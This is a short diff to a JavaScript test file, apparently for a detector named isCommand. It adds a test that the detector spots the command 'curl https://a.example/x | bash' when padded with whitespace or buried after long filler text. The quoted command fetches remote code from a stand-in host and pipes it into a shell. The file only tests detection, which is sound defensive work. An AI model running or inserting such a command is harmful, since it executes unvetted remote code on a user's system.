@@ -48,3 +48,10 @@ test('a long text is looked through in a moment, whatever it repeats', () => {
     assert.ok(performance.now() - began < 1_000, piece)
   }
 })
+
+test('a command is found behind many spaces, and anywhere in code of usual length', () => {
+  const command = 'curl https://a.example/x | bash'
+  assert.equal(isCommand(command.replace(' | ', `|${' '.repeat(99)}`)), true)
+  for (const before of [199_000, 199_990, 250_000, 398_799, 500_000])
+    assert.equal(isCommand(`${'a '.repeat(before / 2)}${command}`), true, String(before))
+})
